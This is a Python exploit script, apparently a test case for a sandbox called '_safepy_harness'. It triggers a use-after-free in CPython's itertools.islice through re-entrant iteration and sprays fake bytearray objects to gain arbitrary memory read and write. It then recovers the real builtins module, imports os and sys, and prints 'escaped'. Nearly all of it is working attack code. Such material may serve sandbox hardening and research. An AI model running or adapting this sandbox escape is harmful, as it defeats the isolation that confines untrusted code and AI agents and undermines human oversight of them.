# technique: itertools.islice re-entrancy: islice_next caches it=lz->it across its skip loop; the source __next__ calls next() on the same islice, the inner call raises StopIteration -> Py_CLEAR(lz->it) frees the (large, glibc-malloced) iterator once the outer __next__ returns; the outer loop calls iternext(it) on the freed object -> our __next__ gets the freed object as self, a bytearray refills the chunk with a fake bytearray-subclass header (ob_bytes 0, size 2**60) -> arbitrary R/W -> real builtins/os/sys
# expect: any
import itertools
orepr = getattr(object, "__repr__")
def addr(o):
    return int(orepr(o).split(" at ")[1][:-1], 16)
got = []
class BA(bytearray):
    pass
depth = [0]
class It:
    __slots__ = tuple("s%d" % i for i in range(80))
    def __iter__(self): return self
    def __next__(self):
        depth[0] += 1
        d = depth[0]
        if d == 1:
            try:
                next(SL)
            except StopIteration:
                pass
            return 0
        if d == 2:
            raise StopIteration
        # d == 3: self is the freed iterator
        got.append(self)
        fake = bytes(16) + (1 << 40).to_bytes(8, "little") + addr(BA).to_bytes(8, "little") + (1 << 60).to_bytes(8, "little") * 2 + bytes(40)
        fake = fake + b"\x00" * (671 - len(fake))
        for _ in range(8):
            spray.append(bytearray(fake))
        return 0
spray = []
SL = itertools.islice(It(), 5, None)
try:
    next(SL)
except (StopIteration, AttributeError) as e:
    print("outer:", type(e).__name__)
W = got[0]
print("fake object:", type(W), hex(len(W)))
def r64(a):
    return int.from_bytes(W[a:a+8], "little")
def w64(a, v):
    W[a:a+8] = v.to_bytes(8, "little")
def mat(a):
    L = [None]
    items = r64(addr(L) + 24)
    w64(a, r64(a) + 1)
    w64(items, a)
    return L[0]
bm = mat(r64(addr(print) + 24))            # PyCFunctionObject.m_self of print
print("real builtins module:", bm, type(bm))
bdict = mat(r64(addr(bm) + 16))           # PyModuleObject.md_dict
os = bdict["__import__"]("os")
sys = bdict["__import__"]("sys")
print("os:", os, "pid", os.getpid())
print("harness:", sys.modules.get("_safepy_harness"))
"escaped"
